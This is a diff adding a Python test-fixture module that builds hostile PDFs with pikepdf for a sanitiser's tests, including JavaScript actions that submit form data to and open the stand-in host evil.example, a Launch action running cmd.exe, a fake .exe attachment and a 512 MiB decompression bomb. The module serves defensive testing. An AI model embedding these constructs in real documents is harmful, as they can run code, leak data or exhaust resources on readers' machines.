@@ -1,0 +1,154 @@
+"""Hostile PDFs, built in the test with pikepdf: each carries one kind of active content, or a
+decompression bomb, on an otherwise ordinary one-page document."""
+
+from __future__ import annotations
+
+import functools
+import io
+import zlib
+from collections.abc import Callable
+
+import pikepdf
+from pikepdf import Array, Dictionary, Name, String
+
+MiB = 1024 * 1024
+PAGE_TEXT = b"0 0 1 rg 72 72 200 100 re f"  # a blue rectangle: the visible content
+
+
+def _document() -> pikepdf.Pdf:
+    pdf = pikepdf.new()
+    pdf.add_blank_page(page_size=(595, 842))
+    pdf.pages[0].obj.Contents = pdf.make_stream(PAGE_TEXT)
+    return pdf
+
+
+def _bytes(pdf: pikepdf.Pdf) -> bytes:
+    out = io.BytesIO()
+    pdf.save(out, deterministic_id=True)
+    return out.getvalue()
+
+
+def _javascript(code: str = "app.alert('motcua');") -> Dictionary:
+    return Dictionary(Type=Name.Action, S=Name.JavaScript, JS=String(code))
+
+
+def plain() -> bytes:
+    return _bytes(_document())
+
+
+def javascript_open_action() -> bytes:
+    pdf = _document()
+    pdf.Root.OpenAction = pdf.make_indirect(_javascript())
+    return _bytes(pdf)
+
+
+def page_additional_action() -> bytes:
+    """JavaScript run when the page opens (/AA /O), plus a link whose action is JavaScript and
+    the document-level JavaScript name tree."""
+    pdf = _document()
+    page = pdf.pages[0].obj
+    page.AA = Dictionary(O=_javascript("this.submitForm('https://evil.example/');"))
+    page.Annots = Array(
+        [
+            pdf.make_indirect(
+                Dictionary(
+                    Type=Name.Annot,
+                    Subtype=Name.Link,
+                    Rect=Array([72, 72, 272, 172]),
+                    A=_javascript("app.launchURL('https://evil.example/');"),
+                )
+            )
+        ]
+    )
+    pdf.Root.Names = Dictionary(
+        JavaScript=Dictionary(Names=Array([String("init"), pdf.make_indirect(_javascript())]))
+    )
+    return _bytes(pdf)
+
+
+def launch_action() -> bytes:
+    pdf = _document()
+    pdf.pages[0].obj.Annots = Array(
+        [
+            pdf.make_indirect(
+                Dictionary(
+                    Type=Name.Annot,
+                    Subtype=Name.Link,
+                    Rect=Array([72, 72, 272, 172]),
+                    A=Dictionary(S=Name.Launch, F=String("cmd.exe"), Win=Dictionary(F=String("cmd.exe"))),
+                )
+            )
+        ]
+    )
+    return _bytes(pdf)
+
+
+def embedded_file() -> bytes:
+    pdf = _document()
+    payload = pikepdf.AttachedFileSpec(
+        pdf, b"MZ\x90\x00 not really a program", mime_type="application/x-msdownload"
+    )
+    pdf.attachments["hoa-don.exe"] = payload
+    return _bytes(pdf)
+
+
+def xfa_form() -> bytes:
+    pdf = _document()
+    template = pdf.make_stream(b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template/></xdp:xdp>')
+    pdf.Root.AcroForm = Dictionary(Fields=Array(), XFA=template)
+    return _bytes(pdf)
+
+
+def link_to_website() -> bytes:
+    """An ordinary web link and a go-to-page OpenAction: not active content, kept as they are."""
+    pdf = _document()
+    pdf.pages[0].obj.Annots = Array(
+        [
+            pdf.make_indirect(
+                Dictionary(
+                    Type=Name.Annot,
+                    Subtype=Name.Link,
+                    Rect=Array([72, 72, 272, 172]),
+                    A=Dictionary(S=Name.URI, URI=String("https://dichvucong.gov.vn/")),
+                )
+            )
+        ]
+    )
+    pdf.Root.OpenAction = Array([pdf.pages[0].obj, Name.Fit])
+    return _bytes(pdf)
+
+
+@functools.cache
+def zeros_deflated(mebibytes: int) -> bytes:
+    """A zlib stream of ``mebibytes`` MiB of zeros (~1 KB each), made from two compressed
+    blocks: after a full flush the compressor starts afresh, so every further MiB compresses to
+    the same bytes and is repeated rather than compressed (nothing near that size is allocated)."""
+    zero = bytes(MiB)
+    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
+    first = compressor.compress(zero) + compressor.flush(zlib.Z_FULL_FLUSH)
+    block = compressor.compress(zero) + compressor.flush(zlib.Z_FULL_FLUSH)
+    end = compressor.flush(zlib.Z_FINISH)
+    checksum = 1
+    for _ in range(mebibytes):
+        checksum = zlib.adler32(zero, checksum)
+    return b"\x78\xda" + first + block * (mebibytes - 1) + end + checksum.to_bytes(4, "big")
+
+
+def decompression_bomb(mebibytes: int = 512) -> bytes:
+    """A page whose content stream inflates to ``mebibytes`` MiB of zeros."""
+    pdf = _document()
+    bomb = pikepdf.Stream(pdf, b"")
+    bomb.write(zeros_deflated(mebibytes), filter=Name.FlateDecode)
+    pdf.pages[0].obj.Contents = Array([pdf.make_indirect(bomb), pdf.make_stream(PAGE_TEXT)])
+    out = io.BytesIO()
+    pdf.save(out, compress_streams=False, deterministic_id=True)
+    return out.getvalue()
+
+
+HOSTILE: dict[str, Callable[[], bytes]] = {
+    "javascript_open_action": javascript_open_action,
+    "page_additional_action": page_additional_action,
+    "launch_action": launch_action,
+    "embedded_file": embedded_file,
+    "xfa_form": xfa_form,
+}
